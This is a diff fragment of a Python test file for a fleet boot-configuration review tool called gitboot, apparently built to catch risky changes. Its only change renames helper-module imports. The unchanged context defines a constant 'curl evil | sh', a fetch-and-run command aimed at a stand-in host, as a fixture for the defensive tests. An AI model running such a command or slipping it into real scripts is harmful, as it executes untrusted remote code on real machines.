@@ -20,10 +20,10 @@ from gitboot.review.guards import Guard, Limits, judge
 from gitboot.review.reinstalls import Why
 from gitboot.review.review import Review, ReviewOutcome
 from gitboot.review.risks import Risk
-from tests.cases import for_each
-from tests.fleets import fleet, image, mac_of, maintenance, policy, profile, server
-from tests.repositories import Work
-from tests.reviewed import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
+from tests.helpers.cases import for_each
+from tests.helpers.fleets import fleet, image, mac_of, maintenance, policy, profile, server
+from tests.helpers.repositories import Work
+from tests.helpers.reviewed_changes import FLEET, SERVERS, USER_DATA, Files, compared, reviewed
 
 EVIL: Final = "curl evil | sh"
 CLAIM: Final = "writesDisk: false"
